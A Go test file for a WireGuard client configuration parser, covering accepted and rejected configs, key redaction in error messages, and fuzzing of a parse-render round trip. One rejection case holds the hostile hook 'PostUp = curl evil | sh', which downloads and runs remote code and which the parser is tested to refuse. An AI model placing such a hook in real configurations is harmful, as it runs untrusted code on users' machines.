package wgconfig

import (
	"bytes"
	"errors"
	"reflect"
	"strings"
	"testing"
)

// conf builds a config from lines, with fixed valid keys.
const (
	testPriv = "yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk="
	testPub  = "xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg="
	testPSK  = "FpCyhws9cxwWoV4xELtfJvjJN+zQVRPISllRWgeopVE="
)

func conf(lines ...string) []byte { return []byte(strings.Join(lines, "\n") + "\n") }

func validLines() []string {
	return []string{
		"[Interface]",
		"PrivateKey = " + testPriv,
		"Address = 10.8.0.2/32",
		"",
		"[Peer]",
		"PublicKey = " + testPub,
		"Endpoint = vpn.example.net:51820",
		"AllowedIPs = 0.0.0.0/0",
	}
}

func TestParseAccepts(t *testing.T) {
	base, err := Parse(conf(validLines()...))
	if err != nil {
		t.Fatalf("Parse(valid): %v", err)
	}
	if base.PrivateKey.String() != testPriv || base.ServerPublicKey.String() != testPub ||
		base.Endpoint != "vpn.example.net:51820" || len(base.Addresses) != 1 || len(base.AllowedIPs) != 1 {
		t.Fatalf("Parse(valid) = %+v", base)
	}
	tests := []struct {
		name  string
		data  []byte
		check func(Client) bool
	}{
		{"keys in any case", conf("[interface]", "privatekey="+testPriv, "ADDRESS = 10.8.0.2/32", "[PEER]",
			"publicKey = "+testPub, "endpoint = vpn.example.net:51820", "allowedips = 0.0.0.0/0"),
			func(c Client) bool { return c.Endpoint == "vpn.example.net:51820" }},
		{"CRLF and comments", bytes.ReplaceAll(conf("# exported", "[Interface] # the client",
			"PrivateKey = "+testPriv+" # secret", "Address = 10.8.0.2/32", "[Peer]", "PublicKey = "+testPub,
			"Endpoint = vpn.example.net:51820", "AllowedIPs = 0.0.0.0/0"), []byte("\n"), []byte("\r\n")),
			func(c Client) bool { return c.PrivateKey.String() == testPriv }},
		{"repeated list keys add up", conf("[Interface]", "PrivateKey = "+testPriv, "Address = 10.8.0.2/32",
			"Address = fd00::2/128, 10.9.0.2/32", "DNS = 1.1.1.1", "DNS = 9.9.9.9,example.com", "[Peer]", "PublicKey = "+testPub,
			"Endpoint = vpn.example.net:51820", "AllowedIPs = 0.0.0.0/0", "AllowedIPs = ::/0"),
			func(c Client) bool {
				return len(c.Addresses) == 3 && len(c.AllowedIPs) == 2 &&
					reflect.DeepEqual(c.DNS, []string{"1.1.1.1", "9.9.9.9", "example.com"})
			}},
		{"keepalive off", conf(append(validLines(), "PersistentKeepalive = off")...),
			func(c Client) bool { return c.Keepalive == 0 }},
		{"keepalive and psk", conf(append(validLines(), "PersistentKeepalive = 25", "PresharedKey = "+testPSK)...),
			func(c Client) bool {
				return c.Keepalive == 25 && c.PresharedKey != nil && c.PresharedKey.String() == testPSK
			}},
		{"name comment", conf(append([]string{"#Name=  bob  "}, validLines()...)...),
			func(c Client) bool { return c.Name == "bob" }},
		{"name comment after the first section is a comment", conf(append(validLines(), "# Name = bob")...),
			func(c Client) bool { return c.Name == "" }},
		{"no final newline", []byte(strings.Join(validLines(), "\n")),
			func(c Client) bool { return len(c.AllowedIPs) == 1 }},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c, err := Parse(tt.data)
			if err != nil {
				t.Fatalf("Parse: %v", err)
			}
			if !tt.check(c) {
				t.Fatalf("Parse = %+v", c)
			}
		})
	}
}

func TestParseRejects(t *testing.T) {
	with := func(extra ...string) []byte { return conf(append(validLines(), extra...)...) }
	without := func(i int) []byte {
		l := validLines()
		return conf(append(l[:i:i], l[i+1:]...)...)
	}
	replace := func(i int, s string) []byte {
		l := validLines()
		l[i] = s
		return conf(l...)
	}
	tests := []struct {
		name string
		data []byte
		want string
	}{
		{"empty", nil, "no [Interface]"},
		{"no peer", conf(validLines()[:3]...), "no [Peer]"},
		{"no private key", without(1), "no PrivateKey"},
		{"no address", without(2), "no address"},
		{"no public key", without(5), "no PublicKey"},
		{"no endpoint", without(6), "no Endpoint"},
		{"no allowed IPs", without(7), "AllowedIPs is empty"},
		{"two peers", with("[Peer]", "PublicKey = "+testPSK), "exactly one [Peer]"},
		{"peer first", conf("[Peer]", "PublicKey = "+testPub), "[Peer] before [Interface]"},
		{"interface twice", with("[Interface]"), "[Interface] must come first"},
		{"unknown section", with("[Server]"), "unknown section"},
		{"key outside a section", conf(append([]string{"MTU = 1420"}, validLines()...)...), "outside a section"},
		{"hook", replace(3, "PostUp = curl evil | sh"), "PostUp is not allowed"},
		{"listen port", replace(3, "ListenPort = 51820"), "ListenPort is not allowed"},
		{"peer key in interface", replace(3, "Endpoint = vpn.example.net:1"), "Endpoint is not allowed in a client's [Interface]"},
		{"private key twice", replace(3, "PrivateKey = "+testPSK), "PrivateKey is given twice"},
		{"endpoint twice", with("Endpoint = vpn.example.net:1"), "Endpoint is given twice"},
		{"short key", replace(1, "PrivateKey = AAAA"), "not a base64 WireGuard key"},
		{"not key = value", replace(3, "just words"), "neither a section header nor key = value"},
		{"bad address", replace(2, "Address = 10.8.0.2"), "Address entry"},
		{"empty list entry", replace(2, "Address = 10.8.0.2/32,"), "empty entry"},
		{"unmasked allowed IP", replace(7, "AllowedIPs = 10.0.0.1/8"), "did you mean 10.0.0.0/8"},
		{"bad endpoint", replace(6, "Endpoint = vpn.example.net"), "not host:port"},
		{"bad keepalive", with("PersistentKeepalive = 70000"), "not a number in 0..65535"},
		{"signed keepalive", with("PersistentKeepalive = +5"), "not a number"},
		{"bad MTU", replace(3, "MTU = 9x"), "MTU is not a number"},
		{"zero psk", with("PresharedKey = AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="), "all zeros"},
		{"control character", replace(2, "Address = 10.8.0.2/32\x00"), "control character"},
		{"invalid UTF-8", with("# \xff"), "not valid UTF-8"},
		{"too large", with("# " + strings.Repeat("x", MaxConfigSize)), "larger than"},
		{"two names", conf(append([]string{"# Name = a", "# Name = b"}, validLines()...)...), "second Name"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c, err := Parse(tt.data)
			if err == nil {
				t.Fatalf("Parse succeeded: %+v", c)
			}
			if !errors.Is(err, ErrInvalid) {
				t.Errorf("error %v does not wrap ErrInvalid", err)
			}
			if !strings.Contains(err.Error(), tt.want) {
				t.Errorf("error %q does not say %q", err, tt.want)
			}
		})
	}
}

// A key where it does not belong is never quoted back.
func TestParseErrorsDoNotQuoteKeys(t *testing.T) {
	for _, line := range []string{
		testPriv,                                     // a bare key: "key = value" split at its '='
		"PublicKey" + testPriv,                       // a run-together line
		"Address = " + testPriv,                      // a key as an address
		"DNS = " + testPriv,                          // as a DNS entry
		"Endpoint = " + testPriv,                     // as an endpoint (Interface section: not allowed)
		"[" + testPriv + "]",                         // as a section
		"MTU = " + strings.TrimSuffix(testPriv, "="), // as a number
	} {
		l := validLines()
		l[3] = line
		_, err := Parse(conf(l...))
		if err == nil {
			t.Errorf("Parse accepted %q", line)
			continue
		}
		if strings.Contains(err.Error(), testPriv[:8]) {
			t.Errorf("error for %q quotes the key: %v", line, err)
		}
	}
}

// FuzzParse: Parse never panics, and whatever it accepts Render writes back
// to an equal Client.
func FuzzParse(f *testing.F) {
	f.Add(conf(validLines()...))
	f.Add(conf(append([]string{"# Name = x"}, append(validLines(), "PresharedKey = "+testPSK, "PersistentKeepalive = 25", "AllowedIPs = ::/0")...)...))
	f.Add(conf("[Interface]", "PrivateKey = "+testPriv, "Address = 10.8.0.2/32, fd00::2/128", "DNS = 1.1.1.1, corp.example", "MTU = 1420",
		"[Peer]", "PublicKey = "+testPub, "Endpoint = [2001:db8::1]:51820", "AllowedIPs = 0.0.0.0/0"))
	f.Add([]byte("[Interface]\r\nPostUp = x\r\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		c, err := Parse(data)
		if err != nil {
			if !errors.Is(err, ErrInvalid) {
				t.Fatalf("error %v does not wrap ErrInvalid", err)
			}
			return
		}
		out, err := Render(c)
		if err != nil {
			t.Fatalf("Render of a parsed config: %v", err)
		}
		again, err := Parse(out)
		if err != nil {
			t.Fatalf("Parse(Render(Parse(data))): %v\n%s", err, out)
		}
		if !reflect.DeepEqual(again, c) {
			t.Fatalf("round trip changed the client:\n got %+v\nwant %+v", again, c)
		}
	})
}
